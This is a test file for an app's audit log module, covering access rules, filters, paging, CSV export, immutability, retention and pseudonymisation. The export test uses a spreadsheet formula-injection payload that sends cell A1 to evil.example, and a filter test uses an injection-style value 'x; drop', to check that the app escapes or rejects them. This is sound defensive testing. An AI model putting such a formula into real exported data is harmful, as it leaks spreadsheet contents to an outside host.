import {
  allHttpRoutes,
  auditEntrySchema,
  clientEvents,
  type AuditAction,
  type AuditEntry,
} from '@yhteistyotila/protocol';
import { Types } from 'mongoose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { api } from '../../test/access-helpers.js';
import { barrier, collect, startTestServer, type TestServer } from '../../test/harness.js';
import { call, callRaw, connectAllReady, createUsers, errorCode, ok } from '../../test/sockets.js';
import type { TestSocket } from '../../test/harness.js';
import type { TestUser } from '../../test/factories.js';
import { AuditModel } from './audit.model.js';
import { csvCell } from './audit.csv.js';
import {
  AUDIT_REASON_DAYS,
  expireAuditReasons,
  pseudonymiseAudit,
  recordAudit,
} from './audit.service.js';

let server: TestServer;
let member: TestUser, mod: TestUser, admin: TestUser;
let ms: TestSocket, m: TestSocket, a: TestSocket;

beforeAll(async () => {
  server = await startTestServer();
  [member, mod, admin] = await createUsers(server, [
    { name: 'Maija Jäsen' },
    { role: 'moderator', name: 'Mona Moderaattori' },
    { role: 'admin', name: 'Aino Ylläpitäjä' },
  ]);
  [ms, m, a] = await connectAllReady(server, [member, mod, admin]);
});
afterAll(() => server.close());

const newId = () => new Types.ObjectId().toHexString();

/** The CSV download as a browser gets it: status, type and the parsed rows (RFC 4180). */
async function downloadCsv(cookie: string, query = '') {
  const res = await fetch(`${server.url}/api/audit/export.csv${query ? `?${query}` : ''}`, {
    headers: { cookie },
  });
  const text = await res.text();
  return { status: res.status, type: res.headers.get('content-type'), text, rows: parseCsv(text) };
}

function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  const re = /"((?:[^"]|"")*)"(,|\r\n|$)/gy;
  let row: string[] = [];
  re.lastIndex = text.startsWith('\uFEFF') ? 1 : 0;
  for (let match = re.exec(text); match && match[0] !== ''; match = re.exec(text)) {
    row.push(match[1]!.replace(/""/g, '"'));
    if (match[2] !== ',') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

describe('who reads the audit log', () => {
  it('moderators and admins list and export it; a member gets FORBIDDEN for both', async () => {
    await recordAudit({
      actorId: mod.id,
      action: 'test.visible' as AuditAction,
      targetType: 'user',
      targetId: member.id,
    });
    for (const staff of [m, a]) {
      const page = await ok(staff, 'audit:list', { action: 'test.visible' });
      expect(page.entries).toHaveLength(1);
      expect(() => auditEntrySchema.parse(page.entries[0])).not.toThrow();
      expect(page.entries[0]).toMatchObject({ actorId: mod.id, actorName: 'Mona Moderaattori' });
    }
    expect(errorCode(await call(ms, 'audit:list', {}))).toBe('FORBIDDEN');
    const csv = await downloadCsv(member.cookie);
    expect(csv.status).toBe(403);
    expect(csv.text).not.toContain('test.visible');
    expect((await downloadCsv(mod.cookie, 'action=test.visible')).status).toBe(200);
    expect((await fetch(`${server.url}/api/audit/export.csv`)).status).toBe(401);
  });
});

describe('filters and pages', () => {
  const actor = newId();
  const other = newId();
  const target = newId();
  const day = (iso: string) => new Date(iso);

  beforeAll(async () => {
    const base = { targetType: 'user', targetId: target };
    // Spread over three months, so that a range crosses month boundaries.
    await recordAudit({
      ...base,
      actorId: actor,
      action: 'test.f' as AuditAction,
      reason: 'Kiusaamista kanavalla',
      at: day('2026-08-30T10:00:00Z'),
    });
    await recordAudit({
      ...base,
      actorId: actor,
      action: 'test.f' as AuditAction,
      reason: 'roskapostia',
      at: day('2026-09-02T10:00:00Z'),
    });
    await recordAudit({
      ...base,
      actorId: other,
      action: 'test.f' as AuditAction,
      reason: 'toistuvaa KIUSAAMISTA',
      at: day('2026-09-15T10:00:00Z'),
    });
    await recordAudit({
      ...base,
      actorId: actor,
      action: 'test.g' as AuditAction,
      at: day('2026-10-01T10:00:00Z'),
    });
    await recordAudit({
      actorId: actor,
      action: 'test.f' as AuditAction,
      targetType: 'user',
      targetId: newId(),
      at: day('2026-10-05T10:00:00Z'),
    });
  });

  const list = async (filter: Parameters<typeof ok<'audit:list'>>[2]) =>
    (await ok(m, 'audit:list', filter)).entries;
  const times = (entries: AuditEntry[]) => entries.map((e) => e.at.slice(0, 10));

  it('by action and actor (equalities), newest first', async () => {
    expect(times(await list({ action: 'test.f' as AuditAction, actorId: actor }))).toEqual([
      '2026-10-05',
      '2026-09-02',
      '2026-08-30',
    ]);
    expect(times(await list({ actorId: other }))).toEqual(['2026-09-15']);
  });

  it('by target, by date range across months, and by words in the reason', async () => {
    expect(times(await list({ targetId: target }))).toHaveLength(4);
    expect(
      times(
        await list({
          actorId: actor,
          from: '2026-08-31T00:00:00.000Z',
          to: '2026-10-01T23:59:59.999Z',
        }),
      ),
    ).toEqual(['2026-10-01', '2026-09-02']);
    expect(times(await list({ targetId: target, q: 'kiusaamista' }))).toEqual([
      '2026-09-15',
      '2026-08-30',
    ]);
    // Literal, not a pattern: a regular expression in the box matches nothing here.
    expect(await list({ targetId: target, q: '.*' })).toEqual([]);
  });

  it('walks back no further than the oldest entry, however early `from` is', async () => {
    // Month by month from year 1000 took minutes; clamped, it is the few months that hold entries.
    const started = Date.now();
    // Fewer matches than the page holds: only the floor ends the walk.
    expect(
      times(await list({ actorId: other, from: '1000-01-01T00:00:00.000Z', limit: 2 })),
    ).toEqual(['2026-09-15']);
    expect(Date.now() - started).toBeLessThan(5000);
  });

  it('pages with a cursor: every entry once, in order', async () => {
    const seen: string[] = [];
    let before: string | undefined;
    for (let i = 0; i < 10; i++) {
      const page = await ok(m, 'audit:list', {
        actorId: actor,
        limit: 2,
        ...(before ? { before } : {}),
      });
      seen.push(...times(page.entries));
      if (!page.next) break;
      before = page.next;
    }
    expect(seen).toEqual(['2026-10-05', '2026-10-01', '2026-09-02', '2026-08-30']);
  });

  it('refuses malformed filters with VALIDATION_ERROR', async () => {
    for (const bad of [
      { action: 'x; drop' },
      { actorId: 'nope' },
      { from: 'yesterday' },
      { limit: 0 },
    ])
      expect(errorCode(await callRaw(m, 'audit:list', bad))).toBe('VALIDATION_ERROR');
  });
});

describe('the CSV export', () => {
  it('escapes a formula in a reason, and any cell starting with = + - @ tab or CR', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      expect(csvCell(`${start}1+1`)).toBe(`"'${start}1+1"`);
    expect(csvCell('a "quoted", text')).toBe('"a ""quoted"", text"');
    expect(csvCell('tavallinen')).toBe('"tavallinen"');
  });

  it('downloads the filtered log with the formula as text', async () => {
    const target = newId();
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Klikkaa")';
    await recordAudit({
      actorId: mod.id,
      action: 'test.csv' as AuditAction,
      targetType: 'user',
      targetId: target,
      reason: formula,
      details: { note: '+ei kaava' },
    });
    const csv = await downloadCsv(admin.cookie, `targetId=${target}`);
    expect(csv.status).toBe(200);
    expect(csv.type).toMatch(/^text\/csv/);
    expect(csv.rows[0]).toEqual([
      'at',
      'actor',
      'actorId',
      'action',
      'targetType',
      'target',
      'reason',
      'details',
    ]);
    expect(csv.rows).toHaveLength(2);
    const row = csv.rows[1]!;
    expect(row[1]).toBe('Mona Moderaattori');
    expect(row[6]).toBe(`'${formula}`);
    expect(row.every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
  });
});

describe('never editable', () => {
  it('declares no route or event that writes the log', () => {
    const auditRoutes = allHttpRoutes().filter((r) => r.path.startsWith('/audit'));
    expect(auditRoutes.map((r) => r.method)).toEqual(['GET']);
    expect(Object.keys(clientEvents).filter((e) => e.startsWith('audit:'))).toEqual(['audit:list']);
  });

  it('answers attempts to change an entry as unknown, and the entry stays', async () => {
    await recordAudit({
      actorId: mod.id,
      action: 'test.keep' as AuditAction,
      targetType: 'user',
      targetId: member.id,
      reason: 'alkuperäinen',
    });
    const [entry] = (await ok(a, 'audit:list', { action: 'test.keep' })).entries;
    for (const event of ['audit:update', 'audit:delete', 'audit:edit'])
      expect(errorCode(await callRaw(a, event, { id: entry!.id, reason: 'muutettu' }))).toBe(
        'VALIDATION_ERROR',
      );
    for (const method of ['PATCH', 'DELETE', 'PUT', 'POST'])
      expect(
        (
          await api(server, method, `/audit/${entry!.id}`, {
            cookie: admin.cookie,
            body: { reason: 'x' },
          })
        ).status,
      ).toBe(404);
    expect((await ok(a, 'audit:list', { action: 'test.keep' })).entries).toEqual([entry]);
  });
});

describe('reason retention (decisions 51)', () => {
  it(`removes a reason ${AUDIT_REASON_DAYS} days after its entry, and keeps the entry`, async () => {
    const day = 86_400_000;
    const now = new Date();
    const action = `test.retention.${newId()}` as AuditAction;
    const entry = (daysAgo: number, reason: string) =>
      recordAudit({
        actorId: mod.id,
        action,
        targetType: 'user',
        targetId: newId(),
        reason,
        at: new Date(now.getTime() - daysAgo * day),
      });
    await entry(AUDIT_REASON_DAYS + 1, 'vanha perustelu');
    await entry(AUDIT_REASON_DAYS - 1, 'tuore perustelu');
    expect(await expireAuditReasons(now)).toBeGreaterThanOrEqual(1);
    const docs = await AuditModel.find({ action }).sort({ at: 1 }).lean();
    expect(docs.map((d) => d.reason)).toEqual([null, 'tuore perustelu']);
    // A second run changes nothing more of these.
    await expireAuditReasons(now);
    const again = await AuditModel.find({ action }).sort({ at: 1 }).lean();
    expect(again.map((d) => d.reason)).toEqual([null, 'tuore perustelu']);
  });
});

describe('erasure of the subject', () => {
  it('replaces the person by a pseudonym and removes the reasons written about them', async () => {
    const subject = newId();
    await recordAudit({
      actorId: mod.id,
      action: 'test.erase' as AuditAction,
      targetType: 'user',
      targetId: subject,
      reason: 'Maija kirjoitti lapsen nimen',
    });
    await recordAudit({
      actorId: subject,
      action: 'test.erase' as AuditAction,
      targetType: 'user',
      targetId: newId(),
      reason: 'hänen oma perustelunsa toisesta',
    });
    // A moderator's removal of the person's message: the target is the message, the author in details.
    await recordAudit({
      actorId: mod.id,
      action: 'test.erase' as AuditAction,
      targetType: 'message',
      targetId: newId(),
      reason: 'Maija julkaisi puhelinnumeronsa',
      details: { authorId: subject },
    });
    await pseudonymiseAudit(subject, 'erased-x');
    const docs = await AuditModel.find({ action: 'test.erase' }).sort({ _id: 1 }).lean();
    expect(docs[2]).toMatchObject({ details: { authorId: 'erased-x' }, reason: null });
    expect(docs[0]).toMatchObject({ targetId: null, targetPseudonym: 'erased-x', reason: null });
    expect(docs[1]).toMatchObject({
      actorId: null,
      actorPseudonym: 'erased-x',
      reason: 'hänen oma perustelunsa toisesta',
    });
  });
});

describe('channel settings by staff', () => {
  it('archiving writes exactly one entry with its reason; members see it live', async () => {
    const { conversation } = await ok(m, 'channel:create', {
      name: 'Arkistoitava',
      visibility: 'public',
    });
    await ok(ms, 'channel:join', { conversationId: conversation.id });
    const updates = collect(ms, 'conversation:updated');
    await ok(m, 'channel:archive', {
      conversationId: conversation.id,
      archived: true,
      reason: 'Toiminta päättyi',
    });
    // Archiving what is archived changes nothing and records nothing.
    await ok(m, 'channel:archive', { conversationId: conversation.id, archived: true });
    await barrier(server, ms);
    expect(updates.map((u) => u.conversation.archived)).toEqual([true]);
    const entries = await AuditModel.find({ targetId: conversation.id }).lean();
    expect(entries).toHaveLength(1);
    expect(entries[0]).toMatchObject({ action: 'channel.archive', reason: 'Toiminta päättyi' });
    expect(entries[0]!.actorId!.toHexString()).toBe(mod.id);

    await ok(a, 'channel:archive', { conversationId: conversation.id, archived: false });
    expect(
      (await ok(m, 'audit:list', { targetId: conversation.id })).entries.map((e) => e.action),
    ).toEqual(['channel.unarchive', 'channel.archive']);
  });

  it('a settings change by staff is recorded and pushed; a member archiving their own channel is not staff work', async () => {
    const { conversation } = await ok(m, 'channel:create', {
      name: 'Asetukset',
      visibility: 'public',
    });
    await ok(ms, 'channel:join', { conversationId: conversation.id });
    const updates = collect(ms, 'conversation:updated');
    await ok(m, 'channel:update', {
      conversationId: conversation.id,
      name: 'Asetukset 2',
      description: 'Uusi kuvaus',
      category: 'Alueet',
    });
    await barrier(server, ms);
    expect(updates.at(-1)?.conversation).toMatchObject({ name: 'Asetukset 2', category: 'Alueet' });
    const [entry] = (await ok(m, 'audit:list', { targetId: conversation.id })).entries;
    expect(entry).toMatchObject({
      action: 'channel.update',
      details: { fields: 'name,description,category' },
    });
    // A member may not rename a public channel: FORBIDDEN, nothing recorded.
    expect(
      errorCode(await call(ms, 'channel:update', { conversationId: conversation.id, name: 'Oma' })),
    ).toBe('FORBIDDEN');

    const own = await ok(ms, 'channel:create', { name: 'Oma pieni', visibility: 'private' });
    await ok(ms, 'channel:update', { conversationId: own.conversation.id, description: 'meidän' });
    await ok(ms, 'channel:archive', { conversationId: own.conversation.id, archived: true });
    expect(await AuditModel.countDocuments({ targetId: own.conversation.id })).toBe(0);
  });
});
